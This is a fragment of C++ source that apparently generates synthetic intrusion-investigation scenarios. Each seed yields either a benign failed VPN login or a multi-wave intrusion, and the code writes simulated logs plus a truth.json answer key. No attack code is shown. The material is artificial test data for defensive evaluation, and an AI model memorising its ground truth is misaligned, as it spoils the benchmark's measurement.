  Intruder x(w, c);
  const bool benign = chance(w, 20);
  if (benign) {  // a mistyped password is not an attack
    const Person& p = pick(w, c.people);
    w.vpn_fail(c.start + (20 + below(w, 60)) * kDay + 6 * kHour, p.name, p.home_ip, "Japan");
  } else {
    intrusion(w, c, x);
  }
  w.truth.description = benign ? "seed " + std::to_string(seed) + ": no intrusion"
                               : "seed " + std::to_string(seed) + ": an intrusion in " +
                                     std::to_string(x.waves.size()) + " wave(s)";
  w.record_coverage(true, true, c.has_linux);
  const bool file_logs_cover = judge_assets(w, c, x, x.waves);
  judge_egress(w, c, x);
  w.count_documents();
  claim(w, file_logs_cover);
  if (auto r = w.write(dir, true, true, c.has_linux); !r) return r;
  std::ofstream assets(fs::path(dir) / "assets.yml"), truth(fs::path(dir) / "truth.json");
  assets << assets_yml(c);
  truth << truth_json("seed-" + std::to_string(seed), w.truth);
  if (!assets.flush() || !truth.flush())
    return std::unexpected(dir + ": cannot write assets.yml or truth.json");
  return {};
}

}  // namespace tansa::simulate
